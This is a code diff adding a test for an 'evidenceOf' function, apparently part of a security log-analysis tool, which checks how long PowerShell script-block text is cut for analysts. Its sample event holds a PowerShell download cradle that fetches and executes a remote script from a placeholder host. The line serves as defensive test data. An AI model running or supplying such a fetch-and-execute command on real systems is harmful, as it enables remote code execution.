@@ -39,3 +39,23 @@ describe('cutText', () => {
     expect(original).toBe(`${'x'.repeat(8191)}…`);
   });
 });
+
+describe('evidenceOf', () => {
+  it('copies what an analyst reads first, a long script block cut to 2 KiB', () => {
+    const script = `IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1'); ${'#'.repeat(10_000)}`;
+    const evidence = evidenceOf({
+      '@timestamp': '2024-05-01T10:00:00.000Z',
+      'event.dataset': 'windows.powershell',
+      'event.action': 'powershell_script_block',
+      'log.original': '<Event/>',
+      'log.file.path': 'ps.xml',
+      'log.file.line': 1,
+      'winlog.event_data.ScriptBlockText': script,
+      'service.name': 'PSEXESVC',
+    });
+    expect(evidence.fields['service.name']).toBe('PSEXESVC');
+    const kept = String(evidence.fields['winlog.event_data.ScriptBlockText']);
+    expect(kept.startsWith('IEX (New-Object Net.WebClient)')).toBe(true);
+    expect(kept.length).toBeLessThanOrEqual(2049);
+  });
+});
